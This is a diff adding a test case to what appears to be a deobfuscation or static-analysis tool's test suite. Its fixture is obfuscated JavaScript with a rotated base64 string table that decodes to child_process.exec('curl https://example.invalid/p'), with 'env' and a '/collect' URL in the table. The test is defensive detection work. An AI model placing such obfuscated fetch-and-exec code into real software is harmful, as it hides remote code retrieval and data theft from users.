@@ -88,6 +88,52 @@ require(_0x3c4d('0x0'));`;
     ]);
   });
 
+  it('turns a newer table until its checksum matches, then folds through its base64 decoder', () => {
+    // Table function, self-replacing decoder with base64 strings, checksum-driven rotation: the table is stored
+    // turned right by three, and only the right turn makes the checksum 1234 + 5678 / 2 = 4073.
+    const src = `
+function _0x1d2e() {
+  const _0x5b2c = ['${obfB64('1234abcD')}', '${obfB64('5678xyZ')}', '${obfB64('curl https://example.invalid/p')}', '${obfB64('child_process')}', '${obfB64('exec')}', '${obfB64('https://example.invalid/collect')}', '${obfB64('env')}'];
+  _0x1d2e = function () { return _0x5b2c; };
+  return _0x1d2e();
+}
+function _0x3a1f(_0x4b, _0x2c) {
+  const _0x1e = _0x1d2e();
+  return _0x3a1f = function (_0x5f, _0x6a) {
+    _0x5f = _0x5f - 0x1a4;
+    let _0x7b = _0x1e[_0x5f];
+    if (_0x3a1f.xYzAbc === undefined) {
+      const _0x9a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';
+      _0x3a1f.dEc = function (_0x3c) { return _0x3c; };
+      _0x3a1f.xYzAbc = !![];
+    }
+    _0x7b = _0x3a1f.dEc(_0x7b);
+    return _0x7b;
+  }, _0x3a1f(_0x4b, _0x2c);
+}
+(function (_0x9c, _0x8d) {
+  const _0x7e = _0x3a1f, _0x6f = _0x9c();
+  while (!![]) {
+    try {
+      const _0x5a = parseInt(_0x7e(0x1a8)) / 0x1 + parseInt(_0x7e(0x1a9)) / 0x2;
+      if (_0x5a === _0x8d) break;
+      else _0x6f['push'](_0x6f['shift']());
+    } catch (_0x4e) { _0x6f['push'](_0x6f['shift']()); }
+  }
+}(_0x1d2e, 0xfe9));
+const _0x2f = _0x3a1f;
+require(_0x2f(0x1a4))[_0x2f(0x1a5)](_0x2f(0x1aa));
+`;
+    const f = facts(src);
+    expect(f.imports).toEqual([{ module: 'child_process', line: 32, scope: '<module>' }]);
+    const call = f.calls.find((c) => c.callee === 'child_process.exec');
+    expect(call?.args[0]?.value).toBe('curl https://example.invalid/p');
+    // A target no turn reaches: nothing folds through the table, rather than to a wrong entry.
+    const wrong = facts(src.replace('0xfe9', '0x1'));
+    expect(wrong.imports).toEqual([{ module: '_0x2f(0x1a4)', line: 32, scope: '<module>', dynamic: true }]);
+    expect(wrong.strings.map((x) => x.value)).toContain('1234abcD');
+  });
+
   it('counts machine-generated identifiers, not minified ones', () => {
     expect(facts(`var lIlIlI = 1, IlIlII = 2, O0O0OO = 3, a = 4, b = 5, ll = 6;`).metrics.obfuscatedIdentifiers).toBe(3);
     expect(facts(`var διάβασε = 1, ㅤ = 2, π = 3;`).metrics.obfuscatedIdentifiers).toBe(2);
